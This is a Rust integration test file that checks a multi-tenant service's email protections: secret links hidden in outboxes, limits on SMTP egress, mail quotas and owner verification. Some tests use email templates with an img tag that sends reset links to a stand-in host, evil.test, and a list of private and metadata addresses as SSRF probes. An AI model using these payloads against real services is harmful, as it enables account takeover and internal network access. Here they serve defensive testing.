//! Issue 14, the email slice: secrets reach only their recipient (R-MAIL-6), an account's own
//! server cannot reach the installation's network (R-MAIL-7), mail is limited per account and
//! hour, and an account whose owner has not proved their address sends nothing (R-AUTH-8).
//! Each test plays the attack as the issue describes it and checks that it is stopped.
use std::time::Duration;

use reqwest::Method;
use roster_service::{Hasher, MailPolicy};
use roster_store::{MembershipRow, UserRow};
use roster_testkit::app::{Answer, PASSWORD, Page, TestApp, TestUser, each_backend, test_mail_policy};
use roster_testkit::db::backends;
use roster_testkit::smtp::{Received, SmtpSink};
use serde_json::{Value, json};
use tokio::io::AsyncWriteExt;
use uuid::Uuid;

const WAIT: Duration = Duration::from_secs(15);

/// Olga (operator) owns account `name`: her token acting in it, and its id.
async fn owner_of(app: &TestApp, email: &str, name: &str) -> (String, Uuid) {
    app.operator(email).await;
    let t = app.token(email, None).await;
    let account = app.create_account(&t, name).await;
    (app.token(email, Some(account)).await, account)
}

/// Points the account's own server at `sink` (the attacker's server).
async fn own_server(app: &TestApp, token: &str, account: Uuid, sink: &SmtpSink) {
    let body = json!({"host": "127.0.0.1", "port": sink.port, "security": "none", "from_address": "m@evil.test"});
    let Answer { status, body: view } =
        app.send(Method::PUT, &format!("/api/v1/accounts/{account}/smtp"), token, Some(body)).await;
    assert_eq!(status, 200, "{view}");
}

/// Adds an existing login to an account straight through the store (the state the old
/// "joins that login" rule left behind).
async fn join(app: &TestApp, account: Uuid, user: Uuid, role: &str) {
    let mut tx = app.db.store.begin().await.unwrap();
    tx.insert_membership(&MembershipRow::new(
        account,
        user,
        roster_core::RoleKind::parse(role).unwrap(),
        time::OffsetDateTime::now_utc(),
    ))
    .await
    .unwrap();
    tx.commit().await.unwrap();
}

/// A login whose address nobody proved, with [`PASSWORD`], optionally a member of `account`.
async fn unproved(app: &TestApp, email: &str, account: Option<(Uuid, &str)>) -> TestUser {
    let hash = Hasher::for_tests().unwrap().hash(&roster_core::Password::parse(PASSWORD).unwrap()).await.unwrap();
    let now = time::OffsetDateTime::now_utc();
    let user = UserRow {
        id: Uuid::now_v7(),
        email: email.to_owned(),
        username: None,
        first_name: "Una".into(),
        last_name: "Proved".into(),
        phone: None,
        company: None,
        password_hash: Some(hash),
        time_zone: "UTC".into(),
        is_operator: false,
        email_verified_at: None,
        created_at: now,
        updated_at: now,
    };
    let mut tx = app.db.store.begin().await.unwrap();
    tx.insert_user(&user).await.unwrap();
    if let Some((a, role)) = account {
        tx.insert_membership(&MembershipRow::new(a, user.id, roster_core::RoleKind::parse(role).unwrap(), now))
            .await
            .unwrap();
    }
    tx.commit().await.unwrap();
    TestUser { id: user.id, email: user.email, password: PASSWORD.into(), token: None, account: None }
}

/// Every way an admin or an operator can look at an email: both APIs and both console pages.
async fn every_view(app: &TestApp, owner_email: &str, account: Uuid, id: &str) -> String {
    let owner_token = app.token(owner_email, Some(account)).await;
    let op_token = app.token(owner_email, None).await;
    let mut seen = String::new();
    for (path, token) in [
        (format!("/api/v1/accounts/{account}/emails"), &owner_token),
        (format!("/api/v1/accounts/{account}/emails/{id}"), &owner_token),
        ("/api/v1/emails".to_owned(), &op_token),
    ] {
        let Answer { status, body } = app.get_json(&path, Some(token)).await;
        assert_eq!(status, 200, "{path}: {body}");
        seen.push_str(&body.to_string());
    }
    let cookie = app.console_sign_in(owner_email).await;
    for path in
        [format!("/accounts/{account}/emails"), format!("/accounts/{account}/emails/{id}"), format!("/emails/{id}")]
    {
        let Page { status, html } = app.page(&path, &cookie).await;
        assert!(status == 200 || status == 303, "{path}: {status}");
        seen.push_str(&html);
    }
    seen
}

/// The newest email of the account's outbox.
async fn newest_email(app: &TestApp, token: &str, account: Uuid) -> Value {
    let list = app.get_json(&format!("/api/v1/accounts/{account}/emails"), Some(token)).await.body;
    list["items"][0].clone()
}

fn token_in(m: &Received, prefix: &str) -> String {
    let text = m.part("text/plain").unwrap();
    let at = text.find(&format!("token={prefix}")).unwrap_or_else(|| panic!("no {prefix} link in {text}")) + 6;
    text[at..].split_whitespace().next().unwrap().to_owned()
}

// ---- R-MAIL-6: secrets stay with their recipient ----

#[tokio::test]
async fn r_mail_6_reset_link_is_hidden_in_every_outbox_view() {
    each_backend(|app| async move {
        let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
        let pat = app.seed_members(m, "employee", &[("Pat", "Member", "pat@example.test")]).await.remove(0);
        let Answer { status, body } =
            app.send(Method::POST, &format!("/api/v1/accounts/{m}/users/{}/password-reset", pat.id), &t, None).await;
        assert_eq!(status, 202, "{body}");
        let email = newest_email(&app, &t, m).await;
        let id = email["id"].as_str().unwrap().to_owned();
        let detail = app.get_json(&format!("/api/v1/accounts/{m}/emails/{id}"), Some(&t)).await.body;
        assert!(detail["text"].as_str().unwrap().contains("[link hidden]"), "{detail}");
        let seen = every_view(&app, "olga@example.test", m, &id).await;
        assert!(!seen.contains("reset_"), "a reset token shows in a view");
        assert!(seen.contains("[link hidden]"));
        // The recipient still gets a working link.
        let got = app.smtp.wait_for(1, WAIT).await.remove(0);
        assert_eq!(got.to, vec!["pat@example.test".to_owned()]);
        assert!(!got.data.contains("[link hidden]"));
        let confirm = json!({ "token": token_in(&got, "reset_"), "password": "a fresh long passphrase 9" });
        let Answer { status, body } = app.post_json("/api/v1/auth/password-reset/confirm", None, &confirm).await;
        assert_eq!(status, 204, "{body}");
    })
    .await;
}

#[tokio::test]
async fn r_mail_6_reset_of_a_shared_login_or_an_operator_never_goes_through_the_accounts_server() {
    each_backend(|app| async move {
        let attacker = SmtpSink::start().await;
        // The victim belongs to account A; the attacker owns M and (by the old rule) has them in M too.
        let (_, a) = owner_of(&app, "olga@example.test", "Victim Co").await;
        let victim = app.seed_members(a, "admin", &[("Vic", "Tim", "victim@example.test")]).await.remove(0);
        let (t, m) = owner_of(&app, "mallory@example.test", "Mallory Ltd").await;
        join(&app, m, victim.id, "employee").await;
        let op = app.operator("root@example.test").await;
        join(&app, m, op.id, "employee").await;
        let own = app.seed_members(m, "employee", &[("Own", "Member", "own@example.test")]).await.remove(0);
        own_server(&app, &t, m, &attacker).await;

        for who in [victim.id, op.id] {
            let path = format!("/api/v1/accounts/{m}/users/{who}/password-reset");
            let Answer { status, body } = app.send(Method::POST, &path, &t, None).await;
            assert_eq!(status, 202, "{body}");
        }
        let got = app.smtp.wait_for(2, WAIT).await;
        let mut to: Vec<String> = got.iter().flat_map(|m| m.to.clone()).collect();
        to.sort();
        assert_eq!(to, ["root@example.test", "victim@example.test"], "through the installation's server");
        for m in &got {
            assert!(!m.data.contains("evil.test"), "nothing of the attacker's template or address");
        }
        // A member the account alone answers for still gets the account's own server.
        let path = format!("/api/v1/accounts/{m}/users/{}/password-reset", own.id);
        assert_eq!(app.send(Method::POST, &path, &t, None).await.status, 202);
        let theirs = attacker.wait_for(1, WAIT).await;
        assert_eq!(theirs.len(), 1);
        assert_eq!(theirs[0].to, vec!["own@example.test".to_owned()]);
        tokio::time::sleep(Duration::from_millis(300)).await;
        assert_eq!(attacker.count(), 1, "the victim's and the operator's links never reached it");
    })
    .await;
}

#[tokio::test]
async fn r_mail_6_impersonation_notice_goes_through_the_installation_server_only() {
    each_backend(|app| async move {
        let attacker = SmtpSink::start().await;
        let (t, m) = owner_of(&app, "olga@example.test", "Acting Ltd").await;
        let pat = app.seed_members(m, "employee", &[("Pat", "Member", "pat@example.test")]).await.remove(0);
        own_server(&app, &t, m, &attacker).await;
        let path = format!("/api/v1/accounts/{m}/users/{}/impersonate", pat.id);
        let Answer { status, body } = app.send(Method::POST, &path, &t, Some(json!({"reason": "Ticket 42"}))).await;
        assert_eq!(status, 200, "{body}");
        let got = app.smtp.wait_for(1, WAIT).await;
        assert_eq!(got[0].to, vec!["pat@example.test".to_owned()]);
        tokio::time::sleep(Duration::from_millis(300)).await;
        assert_eq!(attacker.count(), 0, "the account's own server never carries the notice");
    })
    .await;
}

#[tokio::test]
async fn r_mail_6_an_inviter_cannot_read_their_invitation_link_in_the_outbox() {
    each_backend(|app| async move {
        let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
        let Answer { status, body } = app
            .send(
                Method::POST,
                &format!("/api/v1/accounts/{m}/invitations"),
                &t,
                Some(json!({"email": "newhire@b.test"})),
            )
            .await;
        assert_eq!(status, 201, "{body}");
        let id = newest_email(&app, &t, m).await["id"].as_str().unwrap().to_owned();
        let seen = every_view(&app, "olga@example.test", m, &id).await;
        assert!(!seen.contains("invite_"), "an invitation token shows in a view");
        assert!(seen.contains("[link hidden]"));
        let got = app.smtp.wait_for(1, WAIT).await.remove(0);
        assert!(!token_in(&got, "invite_").is_empty(), "the invitee gets the link");
    })
    .await;
}

#[tokio::test]
async fn r_mail_6_an_override_cannot_carry_the_link_of_someone_else() {
    each_backend(|app| async move {
        let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
        let evil = json!({"subject": "Join {{ account.name }}",
            "text": "Join: {{ link }}",
            "html": "<p><img src=\"https://evil.test/?{{ link }}\"><a href=\"{{ link }}\">Join</a></p>"});
        let path = format!("/api/v1/accounts/{m}/email-templates/invitation");
        let Answer { status, body: view } = app.send(Method::PUT, &path, &t, Some(evil)).await;
        assert_eq!((status, &view["carries_secret"]), (200, &json!(true)), "{view}");
        let cookie = app.console_sign_in("olga@example.test").await;
        let editor = app.page(&format!("/accounts/{m}/email-templates/invitation"), &cookie).await.html;
        assert!(editor.contains("secret-note"), "the editor says where the version is used");
        let invite = json!({"email": "newhire@b.test"});
        assert_eq!(
            app.send(Method::POST, &format!("/api/v1/accounts/{m}/invitations"), &t, Some(invite)).await.status,
            201
        );
        let got = app.smtp.wait_for(1, WAIT).await.remove(0);
        assert!(!got.data.contains("evil.test"), "the built-in template is used: {}", got.data);
        assert!(!token_in(&got, "invite_").is_empty());
    })
    .await;
}

#[tokio::test]
async fn r_mail_6_the_bcc_copy_of_a_welcome_carries_no_link() {
    each_backend(|app| async move {
        let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
        let body = json!({ "email": "ben@example.test", "first_name": "Ben", "last_name": "New",
            "welcome_subject": "Your Acme login", "bcc_me": true });
        let Answer { status, body } =
            app.send(Method::POST, &format!("/api/v1/accounts/{m}/users"), &t, Some(body)).await;
        assert_eq!(status, 201, "{body}");
        let got = app.smtp.wait_for(2, WAIT).await;
        let ben = got.iter().find(|r| r.to == ["ben@example.test"]).expect("the welcome");
        let copy = got.iter().find(|r| r.to == ["olga@example.test"]).expect("the creator's copy");
        assert!(!token_in(ben, "reset_").is_empty());
        assert!(!copy.data.contains("reset_"), "the copy has no link: {}", copy.data);
        assert!(copy.part("text/plain").unwrap().contains("[link hidden]"));
        assert_eq!(copy.header("Subject").as_deref(), Some("Your Acme login"));
        for r in &got {
            assert_eq!(r.to.len(), 1, "no Bcc in any envelope: {:?}", r.to);
        }
    })
    .await;
}

// ---- R-MAIL-7: tenant SMTP egress ----

fn strict() -> MailPolicy {
    MailPolicy { allow_private_smtp: false, ..test_mail_policy() }
}

#[tokio::test]
async fn r_mail_7_private_hosts_and_other_ports_are_refused() {
    for backend in backends().await {
        let app = TestApp::builder().backend(backend).mail_policy(strict()).build().await;
        let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
        let path = format!("/api/v1/accounts/{m}/smtp");
        for (host, port, field) in [
            ("127.0.0.1", 22, "host"),
            ("127.0.0.1", 22, "port"),
            ("169.254.169.254", 587, "host"),
            ("0.0.0.0", 587, "host"),
            ("127.1", 587, "host"),
            ("localhost", 587, "host"),
            ("[::1]", 587, "host"),
            ("::ffff:127.0.0.1", 587, "host"),
            ("10.0.0.5", 25, "host"),
            ("8.8.8.8", 22, "port"),
        ] {
            let body = json!({"host": host, "port": port, "security": "none", "from_address": "m@acme.test"});
            let Answer { status, body: problem } = app.send(Method::PUT, &path, &t, Some(body)).await;
            assert_eq!((status, problem["code"].as_str()), (422, Some("smtp_host_refused")), "{host}:{port} {problem}");
            let fields: Vec<&str> =
                problem["errors"].as_array().unwrap().iter().map(|e| e["field"].as_str().unwrap()).collect();
            assert!(fields.contains(&field), "{host}:{port} names {field}: {problem}");
        }
        assert_eq!(app.get_json(&path, Some(&t)).await.body, Value::Null, "nothing was saved");
        // A server saved while private ones were allowed is checked again when used.
        let mut tx = app.db.store.begin().await.unwrap();
        tx.put_smtp_settings(&roster_store::SmtpSettingsRow {
            account_id: m,
            host: "127.0.0.1".into(),
            port: i32::from(app.smtp.port),
            security: "none".into(),
            username: None,
            password_enc: None,
            from_addr: "m@acme.test".into(),
            updated_at: time::OffsetDateTime::now_utc(),
        })
        .await
        .unwrap();
        tx.commit().await.unwrap();
        let Answer { status, body: answer } =
            app.send(Method::POST, &format!("{path}/test"), &t, Some(json!({}))).await;
        assert_eq!((status, &answer["ok"]), (200, &json!(false)), "{answer}");
        assert!(answer["message"].as_str().unwrap().contains("refused"), "{answer}");
        // And at delivery: the email waits with the refusal as its error, never reaching the server.
        let path = format!("/api/v1/accounts/{m}/email-templates/password_changed/test");
        let Answer { status, body: email } = app.send(Method::POST, &path, &t, None).await;
        assert_eq!(status, 202, "{email}");
        let id = email["id"].as_str().unwrap().to_owned();
        let deadline = tokio::time::Instant::now() + WAIT;
        loop {
            let email = app.get_json(&format!("/api/v1/accounts/{m}/emails/{id}"), Some(&t)).await.body;
            if email["attempts"].as_i64().unwrap_or(0) >= 1 {
                assert_eq!(email["status"], "queued", "{email}");
                assert!(email["last_error"].as_str().unwrap().contains("refused"), "{email}");
                break;
            }
            assert!(tokio::time::Instant::now() < deadline, "never tried: {email}");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        assert_eq!(app.smtp.count(), 0);
    }
}

/// A listener on 127.0.0.1 that writes `banner` to each connection and then holds it open.
async fn listener_saying(banner: &'static [u8]) -> u16 {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            tokio::spawn(async move {
                let _ = stream.write_all(banner).await;
                tokio::time::sleep(Duration::from_secs(120)).await;
                drop(stream);
            });
        }
    });
    port
}

#[tokio::test]
async fn r_mail_7_the_test_answer_never_repeats_a_non_smtp_peers_bytes_and_a_silent_port_times_out() {
    for backend in backends().await {
        // Private servers allowed, so the test reaches listeners on 127.0.0.1.
        let policy = MailPolicy { smtp_timeout: Duration::from_secs(2), ..test_mail_policy() };
        let app = TestApp::builder().backend(backend).mail_policy(policy).build().await;
        let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
        let path = format!("/api/v1/accounts/{m}/smtp");
        let ssh = listener_saying(b"SSH-2.0-OpenSSH_9.2\r\n").await;
        let body = json!({"host": "127.0.0.1", "port": ssh, "security": "none", "from_address": "m@acme.test"});
        assert_eq!(app.send(Method::PUT, &path, &t, Some(body)).await.status, 200);
        for test in [json!({}), json!({"to": "olga@example.test"})] {
            let Answer { status, body: answer } = app.send(Method::POST, &format!("{path}/test"), &t, Some(test)).await;
            assert_eq!((status, &answer["ok"]), (200, &json!(false)), "{answer}");
            let message = answer["message"].as_str().unwrap();
            assert!(message.ends_with("not an SMTP server"), "{message}");
            assert!(!message.contains("SSH") && !message.contains("OpenSSH"), "{message}");
        }
        let cookie = app.console_sign_in("olga@example.test").await;
        let form = app.page(&format!("/accounts/{m}/settings/email"), &cookie).await.html;
        let csrf = roster_testkit::app::csrf_of(&form);
        let res = app
            .client
            .post(app.at(&format!("/accounts/{m}/settings/email/test")))
            .header("cookie", &cookie)
            .form(&[("csrf", csrf.as_str()), ("to", "olga@example.test")])
            .send()
            .await
            .unwrap();
        let html = res.text().await.unwrap();
        assert!(html.contains("not an SMTP server") && !html.contains("OpenSSH"), "{html}");

        let silent = listener_saying(b"").await;
        let body = json!({"host": "127.0.0.1", "port": silent, "security": "none", "from_address": "m@acme.test"});
        assert_eq!(app.send(Method::PUT, &path, &t, Some(body)).await.status, 200);
        let started = std::time::Instant::now();
        let Answer { status, body: answer } =
            app.send(Method::POST, &format!("{path}/test"), &t, Some(json!({}))).await;
        assert!(started.elapsed() < Duration::from_secs(5), "answered after {:?}", started.elapsed());
        assert_eq!((status, &answer["ok"]), (200, &json!(false)), "{answer}");
        assert!(answer["message"].as_str().unwrap().ends_with("timed out"), "{answer}");
    }
}

#[tokio::test]
async fn r_mail_7_test_emails_go_only_to_the_callers_own_proved_address() {
    each_backend(|app| async move {
        let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
        let path = format!("/api/v1/accounts/{m}/smtp/test");
        let Answer { status, body: problem } =
            app.send(Method::POST, &path, &t, Some(json!({"to": "victim@else.test"}))).await;
        assert_eq!((status, problem["errors"][0]["field"].as_str()), (422, Some("to")), "{problem}");
        let Answer { status, body: answer } =
            app.send(Method::POST, &path, &t, Some(json!({"to": "olga@example.test"}))).await;
        assert_eq!((status, &answer["ok"]), (200, &json!(true)), "{answer}");
        assert_eq!(app.smtp.wait_for(1, WAIT).await[0].to, vec!["olga@example.test".to_owned()]);
        // An admin whose own address nobody proved sends no test email, not even to it.
        let una = unproved(&app, "una@example.test", Some((m, "admin"))).await;
        let ut = app.token(&una.email, Some(m)).await;
        let Answer { status, body: problem } =
            app.send(Method::POST, &path, &ut, Some(json!({"to": "una@example.test"}))).await;
        assert_eq!((status, problem["errors"][0]["field"].as_str()), (422, Some("to")), "{problem}");
        assert_eq!(app.smtp.count(), 1);
    })
    .await;
}

// ---- Quotas ----

#[tokio::test]
async fn r_mail_7_the_21st_email_of_a_new_account_in_an_hour_is_refused() {
    each_backend(|app| async move {
        let (t, m) = owner_of(&app, "olga@example.test", "Fresh").await;
        let path = format!("/api/v1/accounts/{m}/email-templates/password_changed/test");
        for n in 0..20 {
            let Answer { status, body } = app.send(Method::POST, &path, &t, None).await;
            assert_eq!(status, 202, "email {n}: {body}");
        }
        let res = app.client.post(app.at(&path)).bearer_auth(&t).send().await.unwrap();
        assert_eq!(res.status(), 429);
        let wait: u64 = res.headers()["retry-after"].to_str().unwrap().parse().unwrap();
        assert!((1..=3600).contains(&wait), "{wait}");
        let problem: Value = res.json().await.unwrap();
        assert_eq!((problem["code"].as_str(), problem["rule"].as_str()), (Some("mail_quota"), Some("R-MAIL-7")));
        assert!(problem["detail"].as_str().unwrap().contains("20 emails"), "{problem}");
        // The console says so on a page of its own.
        let cookie = app.console_sign_in("olga@example.test").await;
        let form = app.page(&format!("/accounts/{m}/email-templates/password_changed"), &cookie).await.html;
        let csrf = roster_testkit::app::csrf_of(&form);
        let res = app
            .client
            .post(app.at(&format!("/accounts/{m}/email-templates/password_changed/test")))
            .header("cookie", &cookie)
            .form(&[("csrf", csrf.as_str())])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 429);
        assert!(res.text().await.unwrap().contains("Email limit reached"));
    })
    .await;
}

#[tokio::test]
async fn r_mail_7_more_than_200_bulk_invitations_are_refused() {
    each_backend(|app| async move {
        let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
        let rows: Vec<Value> = (0..201).map(|i| json!({"email": format!("p{i}@spam.test")})).collect();
        let path = format!("/api/v1/accounts/{m}/invitations/bulk");
        let Answer { status, body: problem } = app.send(Method::POST, &path, &t, Some(Value::Array(rows))).await;
        assert_eq!((status, problem["code"].as_str()), (429, Some("bulk_limit")), "{problem}");
        assert!(problem["detail"].as_str().unwrap().contains("200"), "{problem}");
        let list = app.get_json(&format!("/api/v1/accounts/{m}/emails"), Some(&t)).await.body;
        assert_eq!(list["items"].as_array().unwrap().len(), 0, "nothing was queued");
    })
    .await;
}

// ---- R-AUTH-8: an owner who has not proved their address ----

#[tokio::test]
async fn r_auth_8_an_account_whose_owner_has_not_proved_their_address_sends_no_email() {
    each_backend(|app| async move {
        // Una signs in (through a membership somewhere) and makes an account of her own.
        let (_, x) = owner_of(&app, "olga@example.test", "Elsewhere").await;
        let una = unproved(&app, "una@example.test", Some((x, "employee"))).await;
        let t = app.token(&una.email, None).await;
        let m = app.create_account(&t, "Squat Ltd").await;
        let t = app.token(&una.email, Some(m)).await;
        let Answer { status, body: problem } =
            app.send(Method::POST, &format!("/api/v1/accounts/{m}/email-templates/welcome/test"), &t, None).await;
        assert_eq!(
            (status, problem["code"].as_str(), problem["rule"].as_str()),
            (409, Some("owner_unverified"), Some("R-AUTH-8")),
            "{problem}"
        );
        let invite = json!({"email": "someone@else.test"});
        let Answer { status, body: problem } =
            app.send(Method::POST, &format!("/api/v1/accounts/{m}/invitations"), &t, Some(invite)).await;
        assert_eq!((status, problem["code"].as_str()), (409, Some("owner_unverified")), "{problem}");
        let list = app.get_json(&format!("/api/v1/accounts/{m}/emails"), Some(&t)).await.body;
        assert_eq!(list["items"].as_array().unwrap().len(), 0);
    })
    .await;
}

/// Security review of issue 14, finding A: a member holding `account.settings` but fewer rights
/// than others could point the account's server, or a link-carrying template, at themselves and
/// catch the reset link a higher admin sends to a stronger member. What decides where secrets
/// travel is changed only by someone holding every permission (R-PERM-1, decision 0032).
#[tokio::test]
async fn r_perm_1_a_settings_holder_with_fewer_rights_cannot_redirect_secrets() {
    each_backend(|app| async move {
        let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
        let role = json!({ "name": "Office", "permissions": ["account.settings", "users.view"] });
        let Answer { status, body } = app.post_json(&format!("/api/v1/accounts/{m}/roles"), Some(&t), &role).await;
        assert_eq!(status, 201, "{body}");
        let office = app.seed_members(m, "customer", &[("Oz", "Office", "oz@acme.test")]).await.remove(0);
        let path = format!("/api/v1/accounts/{m}/users/{}", office.id);
        let Answer { status, body } = app.send(Method::PATCH, &path, &t, Some(json!({ "role": "Office" }))).await;
        assert_eq!(status, 200, "{body}");
        let ot = app.token("oz@acme.test", Some(m)).await;
        let attacker = SmtpSink::start().await;

        let server =
            json!({"host": "127.0.0.1", "port": attacker.port, "security": "none", "from_address": "m@evil.test"});
        let Answer { status, body } =
            app.send(Method::PUT, &format!("/api/v1/accounts/{m}/smtp"), &ot, Some(server)).await;
        assert_eq!(status, 403, "the server is refused: {body}");
        let evil = json!({"subject": "Reset", "text": "{{ link }}",
            "html": "<p><img src=\"https://evil.test/?{{ link }}\"><a href=\"{{ link }}\">Reset</a></p>"});
        let secret_template = format!("/api/v1/accounts/{m}/email-templates/password_reset");
        let Answer { status, body } = app.send(Method::PUT, &secret_template, &ot, Some(evil.clone())).await;
        assert_eq!(status, 403, "a link-carrying template is refused: {body}");
        let plain =
            json!({"subject": "Changed", "text": "Your password changed {{ changed_at }}", "html": "<p>Changed</p>"});
        let plain_template = format!("/api/v1/accounts/{m}/email-templates/password_changed");
        let Answer { status, body } = app.send(Method::PUT, &plain_template, &ot, Some(plain)).await;
        assert_eq!(status, 200, "a template without a secret stays theirs to edit: {body}");

        // The owner, who holds everything, still may.
        own_server(&app, &t, m, &attacker).await;
        assert_eq!(app.send(Method::PUT, &secret_template, &t, Some(evil)).await.status, 200);
    })
    .await;
}
